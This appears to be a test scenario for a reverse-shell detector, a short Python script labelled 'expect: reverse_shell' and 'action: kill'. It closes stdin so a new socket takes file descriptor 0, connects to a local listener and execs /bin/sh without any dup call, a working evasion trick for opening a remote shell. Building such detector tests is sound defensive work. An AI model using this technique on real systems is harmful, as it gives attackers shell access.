# expect: reverse_shell
# action: kill
# about: close(0), then socket() lands on fd 0: connect and exec a shell, no dup at all
import os
import socket
import subprocess
import sys

lib = os.environ["SCENARIO_LIB"]
listener = subprocess.Popen([sys.executable, f"{lib}/listener.py"], stdout=subprocess.PIPE)
port = int(listener.stdout.readline())
os.close(0)
s = socket.socket()
assert s.fileno() == 0
s.connect(("127.0.0.1", port))
s.set_inheritable(True)
os.execv("/bin/sh", ["sh"])
